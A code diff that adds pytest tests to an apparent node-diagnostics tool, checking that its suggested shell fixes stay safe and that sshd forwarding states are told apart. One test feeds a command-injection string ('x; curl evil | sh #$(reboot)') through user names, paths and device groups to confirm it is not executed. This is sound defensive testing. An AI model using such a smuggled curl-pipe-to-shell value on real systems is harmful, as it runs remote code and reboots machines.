@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import re
+import shlex
 from typing import Any
 
 import pytest
@@ -140,6 +141,28 @@ def test_root_needs_no_sudo() -> None:
     found = judged({"user": {"name": "root", "uid": 0, "home": "/root"}}, {"oom.overcommit": 2})
     assert found["overcommit_strict"].fix == "sysctl vm.overcommit_memory=0"
     assert Facts().root("reboot") == "sudo reboot"
+
+
+def test_what_a_node_calls_itself_is_one_word_of_a_command() -> None:
+    evil = "x; curl evil | sh #$(reboot)"
+    found = judged(
+        {
+            "user": {"name": evil, "uid": 7, "home": f"/{evil}"},
+            "home_mode": 0o777,
+            "root.place": f"/{evil}",
+            "root.inodes_free": 1,
+        },
+        {"shell.login": "/bin/false", "devices": [{"path": "/dev/kfd", "ok": False, "group": evil}]},
+    )
+    for code in ("loose_home", "few_inodes", "shell_closed", "gpu_no_access"):
+        command = found[code].fix.partition("; then")[0]
+        assert not [word for word in shlex.split(command) if word in ("curl", "sh", "|")], command
+
+
+def test_a_forbidden_and_a_limited_forwarding_are_told_apart() -> None:
+    assert set(judged({}, {"sshd.permit_open": ["10.0.0.1:80"]}, {"forwarding": False})) == {"forwarding_limited"}
+    assert set(judged({}, {"sshd.allow_tcp_forwarding": "no"}, {"forwarding": False})) == {"forwarding_forbidden"}
+    assert set(judged({}, {"sshd.allow_tcp_forwarding": "no"}, {"forwarding": True})) == set()
 
 
 @pytest.mark.parametrize(
